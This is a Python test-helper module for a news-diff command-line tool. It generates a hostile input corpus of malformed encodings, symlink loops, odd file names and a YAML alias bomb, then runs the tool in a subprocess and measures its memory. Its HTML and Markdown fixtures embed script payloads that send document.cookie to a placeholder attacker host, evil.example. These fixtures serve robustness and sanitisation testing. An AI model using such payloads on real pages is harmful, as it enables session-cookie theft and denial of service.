"""Helpers for the hardening tests: a hostile corpus built on the fly (no binaries in the
repository), and a runner that starts the real command line in a subprocess and reports its
exit code, output lines, wall time and peak memory."""

from __future__ import annotations

import codecs
import os
import random
import re
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

from conftest import SEEDS, seed_text

# Runs the CLI and, on the way out, writes its own peak RSS to stderr on a marked line.
# VmHWM (Linux) is the peak of this program alone; ru_maxrss would also count the test
# process it was forked from, as Linux keeps that figure across exec.
WRAPPER = (
    "import atexit, re, resource, sys\n"
    "def peak():\n"
    "    try:\n"
    "        with open('/proc/self/status') as f:\n"
    "            return int(re.search(r'VmHWM:\\s+(\\d+)', f.read()).group(1))\n"
    "    except (OSError, AttributeError):\n"
    "        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
    "atexit.register(lambda: sys.stderr.write('\\n@@peak-rss-kb %d\\n' % peak()))\n"
    "from newsdiff.cli import main\n"
    "sys.argv[0] = 'newsdiff'\n"
    "main()\n"
)
_RSS = re.compile(r"\n?@@peak-rss-kb (\d+)\n")


@dataclass(frozen=True)
class Run:
    """What one newsdiff process did."""

    code: int
    out: str
    err_lines: list[str]
    seconds: float
    peak_rss_mb: float

    @property
    def err(self) -> str:
        return "\n".join(self.err_lines)


def newsdiff(*args: str, cwd: Path | None = None, prefix: tuple[str, ...] = (),
             stdin: bytes | None = None, timeout: float = 180,
             env: dict[str, str] | None = None) -> Run:
    """Run ``newsdiff ARGS`` as a user would (a new process), and check the things every
    run must honour: output is UTF-8, and no Python traceback reaches the user."""
    start = time.perf_counter()
    proc = subprocess.run([*prefix, sys.executable, "-c", WRAPPER, *args], cwd=cwd,
                          input=stdin, capture_output=True, timeout=timeout, check=False,
                          env=env)
    seconds = time.perf_counter() - start
    out = proc.stdout.decode("utf-8")  # strict: output must be valid UTF-8
    err = proc.stderr.decode("utf-8")
    found = _RSS.search(err)
    rss = int(found.group(1)) / 1024 if found else float("nan")
    err = _RSS.sub("", err)
    assert "Traceback" not in out + err, out + err
    return Run(proc.returncode, out, [line for line in err.splitlines() if line], seconds,
               rss)


# ---------------------------------------------------------------- the hostile corpus

LONG_LINE_BYTES = 5 * 1024 * 1024
FIFTY_MB = 50 * 1024 * 1024


def vocabulary() -> list[str]:
    """The words of the seed articles (a realistic vocabulary for generated text)."""
    text = " ".join(p.read_text(encoding="utf-8") for p in sorted(SEEDS.glob("*.txt")))
    return sorted(set(re.findall(r"[A-Za-z]+", text)))


def prose(n_bytes: int, seed: int, paragraph_every: int | None = None) -> str:
    """Random sentences of seed words: news-like text with no repeated passages."""
    rng = random.Random(seed)
    vocab = vocabulary()
    out: list[str] = []
    size = 0
    while size < n_bytes:
        words = [rng.choice(vocab) for _ in range(rng.randint(6, 24))]
        sentence = " ".join(words).capitalize() + ". "
        out.append(sentence)
        size += len(sentence)
        if paragraph_every and len(out) % paragraph_every == 0:
            out.append("\n\n")
            size += 2
    return "".join(out)[:n_bytes]


def yaml_bomb() -> str:
    """Front matter whose title is a billion-laughs tree of YAML aliases."""
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    prev = "a"
    for name in "bcdefghi":
        lines.append(f"{name}: &{name} [{', '.join(['*' + prev] * 9)}]")
        prev = name
    lines.append("title: *i")
    return "---\n" + "\n".join(lines) + "\n---\n\n" + seed_text("000")


HTML_PAGE = (
    "<html><head><title>Lima talks <script>alert('title')</script></title>"
    "<script>document.location='http://evil.example/?'+document.cookie</script></head>"
    "<body><iframe src=\"http://evil.example/frame\"></iframe>"
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe><article>"
    "<h1>Abe meets Putin in Lima</h1>{paragraphs}</article>"
    "<script>alert('body')</script><footer>Contact us</footer></body></html>"
)
MARKDOWN_RAW = (
    "# Abe and Putin\n\n<script>\nfetch('http://evil.example/' + document.cookie)\n"
    "</script>\n\n<iframe src=\"javascript:alert('md')\"></iframe>\n\n<div class=\"story\">\n\n"
    "{body}\n\n</div>\n"
)


def hostile_files(with_long_line: bool = True) -> dict[str, bytes]:
    """File name → content of every hostile file that is plain data."""
    a, b, c = seed_text("001"), seed_text("002"), seed_text("003")
    paragraphs = "".join(f"<p>{p}</p>" for p in b.split("\n\n")[1:6])
    files = {
        "empty.txt": b"",
        "blank.txt": b" \n\t\n  \r\n",
        "one-byte.txt": b"x",
        "image.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        "nul.txt": b"Abe met Putin.\x00 Talks went on.",
        "latin1.txt": ("Le Premier ministre japonais a rencontré le président russe à Lima. "
                       "Les négociations sur les îles contestées progressent, a déclaré un "
                       "responsable japonais après la réunion de samedi. " * 3
                       ).encode("latin-1"),
        "shift-jis.txt": ("安倍晋三首相は土曜日、ロシアのプーチン大統領と会談し、"
                          "北方領土問題について協議した。" * 4).encode("shift_jis"),
        "utf16.txt": codecs.BOM_UTF16_LE + c.encode("utf-16-le"),
        "utf16-no-bom.txt": c.encode("utf-16-le"),
        "bom.txt": codecs.BOM_UTF8 + b.encode("utf-8"),
        "broken-utf8.txt": a.encode()[:900] + b"\xc3\x28" + a.encode()[900:],
        "crlf.txt": b.replace("\n", "\r\n").encode(),
        "cr-only.txt": a.replace("\n", "\r").encode(),
        "with space.txt": b.encode(),
        "quote'\"s.txt": a.encode(),
        "ünïcødé 東京.md": c.encode(),
        "-leading-dash.txt": b.encode(),
        "--help.txt": a.encode(),
        "new\nline.txt": b"",
        "page.html": HTML_PAGE.format(paragraphs=paragraphs).encode(),
        "raw.md": MARKDOWN_RAW.format(body=a).encode(),
        "bomb.md": yaml_bomb().encode(),
        "long-title.md": ("---\ntitle: " + "T" * 5000 + "\n---\n\n" + c).encode(),
        "locked.txt": c.encode(),
    }
    if with_long_line:
        files["long-line.txt"] = prose(LONG_LINE_BYTES, seed=5).encode()
    return files


# Problems reported for the bad files, by file name (the rest are processed).
BAD = {
    "empty.txt": "empty file",
    "blank.txt": "empty article (no text)",
    "image.txt": "binary file (a PNG image), not text",
    "nul.txt": "binary file (NUL byte at offset 14), not text",
    "broken-utf8.txt": "invalid UTF-8 at byte 900",
    "new\nline.txt": "empty file",
    "bomb.md": "front matter title: must be a single value, not list",
    "long-title.md": "front matter title: longer than 1000 characters",
    "loop.txt": "symbolic link loop",
    "dangling.txt": "broken symbolic link (to nowhere.txt)",
    "pipe.txt": "cannot read: a named pipe, not a regular file",
    "zero.txt": "cannot read: a character device, not a regular file",
}
NON_UTF8_NAME = b"caf\xe9.txt"  # a Latin-1 file name: not valid UTF-8


def build_hostile(root: Path, with_long_line: bool = True) -> None:
    """Write the hostile corpus into `root`."""
    root.mkdir(parents=True, exist_ok=True)
    for name, data in hostile_files(with_long_line).items():
        (root / name).write_bytes(data)
    (root / "locked.txt").chmod(0)
    with open(os.path.join(os.fsencode(root), NON_UTF8_NAME), "wb") as handle:
        handle.write(seed_text("004").encode())
    os.symlink("loop.txt", root / "loop.txt")  # a link to itself
    os.symlink("nowhere.txt", root / "dangling.txt")
    os.symlink("/dev/zero", root / "zero.txt")
    os.mkfifo(root / "pipe.txt")
    (root / "sub").mkdir()
    os.symlink("..", root / "sub" / "up")  # a folder loop
    (root / "sub" / "nested.txt").write_text(seed_text("004"), encoding="utf-8")
    # A report newsdiff wrote earlier into the corpus must not be read back as articles.
    (root / "reports").mkdir()
    (root / "reports" / ".newsdiff-output").write_text("x", encoding="utf-8")
    (root / "reports" / "index.html").write_text("<p>Old report page.</p>", encoding="utf-8")


def unreadable(path: Path) -> bool:
    """True when this process cannot read `path` (root reads a chmod 000 file)."""
    try:
        with open(path, "rb"):
            return False
    except PermissionError:
        return True


def expected_outcomes(root: Path) -> dict[str, str | None]:
    """Article id → the problem reported for it, or None when it is processed."""
    ids = {name: BAD.get(name) for name in hostile_files(root.joinpath("long-line.txt")
                                                          .exists())}
    ids.update({name: problem for name, problem in BAD.items()})
    ids["locked.txt"] = "permission denied" if unreadable(root / "locked.txt") else None
    ids["caf\\xe9.txt"] = None
    ids["sub/nested.txt"] = None
    return ids


def display(name: str) -> str:
    """How a name appears in a one-line message (newlines escaped)."""
    return name.replace("\n", "\\n")
